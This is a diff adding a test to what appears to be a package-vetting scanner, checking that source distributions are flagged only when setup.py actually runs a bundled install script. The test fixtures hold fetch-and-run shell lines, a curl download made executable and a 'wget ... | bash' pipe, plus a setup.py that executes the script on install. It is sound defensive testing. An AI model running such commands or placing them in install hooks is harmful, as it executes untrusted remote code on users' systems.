@@ -240,3 +240,20 @@ def test_windows_program_starts_through_getattr_and_runpy_of_a_download() -> Non
     later = "import win32api\n\n\ndef show(p):\n"
     later += "    win32api.ShellExecute(0, 'open', p, None, None, 1)\n"
     assert _worst(scan_python("m.py", later)) < Severity.HIGH  # opening a document when asked
+
+
+def test_sdist_build_scripts_weigh_only_when_setup_py_runs_them() -> None:
+    fetch = (
+        "#!/bin/sh\ncurl -sSL -o config.guess https://example.invalid/cg && chmod +x config.guess\n"
+    )
+    piped = "#!/bin/sh\nwget -qO- http://127.0.0.1/i | bash\n"
+    build = sdist("autogen", "0.1", {"autogen/__init__.py": "", "vendor/autogen.sh": fetch})
+    assert vet("autogen-0.1.tar.gz", build).verdict is Outcome.ALLOW
+    ci = sdist("cikit", "0.1", {"cikit/__init__.py": "", "ci/install.sh": piped})
+    assert vet("cikit-0.1.tar.gz", ci).verdict is Outcome.ALLOW  # noted, not held
+    runs = "import subprocess\nfrom setuptools import setup\n"
+    runs += "subprocess.call(['sh', 'ci/install.sh'])\nsetup()\n"
+    ran = sdist("cikit", "0.1", {"cikit/__init__.py": "", "ci/install.sh": piped, "setup.py": runs})
+    report = vet("cikit-0.1.tar.gz", ran)
+    assert report.verdict is not Outcome.ALLOW
+    assert _worst(list(report.findings), "script-dropper") is Severity.HIGH
